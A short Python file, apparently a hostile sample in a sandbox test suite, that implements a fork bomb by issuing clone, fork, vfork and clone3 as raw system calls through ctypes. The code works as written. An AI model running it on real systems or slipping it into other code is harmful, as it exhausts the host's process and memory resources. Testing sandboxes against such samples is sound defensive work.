"""A fork bomb by clone, fork and vfork as raw system calls."""
# layers: yes
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = (56, 57, 58, 435) if platform.machine() == "x86_64" else (220, 435)
def attack(name, args, keywords):
    return [libc.syscall(number, 17, 0, 0, 0, 0) for number in NUMBERS for _ in range(100)]
